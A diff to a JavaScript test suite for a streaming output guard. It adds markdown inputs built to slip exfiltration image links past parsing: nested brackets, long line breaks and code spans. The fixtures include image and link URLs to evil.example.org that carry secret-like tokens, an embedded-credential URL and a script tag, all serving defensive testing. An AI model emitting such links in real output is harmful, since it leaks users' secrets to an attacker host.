@@ -105,6 +105,10 @@ describe("streaming with the guard's adaptive hold-back", () => {
     "see https://deploy:Zq8vN2rT5wX7@registry.example.net/v2 ",
     '![pixel](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4mK3sD9fG1 "t") ',
     "[docs](https://docs.example.com/a) ",
+    // Brackets inside an image's description (CommonMark pairs them), a line break, a code span's "]".
+    `![a [b] c\n${"d ".repeat(150)}](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4mK3sD9fG1) `,
+    "[![x](https://evil.example.org/p.png)](https://docs.example.com) ",
+    "![a `]` b](https://evil.example.org/p.png) ",
     "[click]( https://evil.example.org/c?q=secret-data ) ",
     '<img alt="x"  src = "https://evil.example.org/i.png?q=1"> ',
     "<script   src=x></script> ",
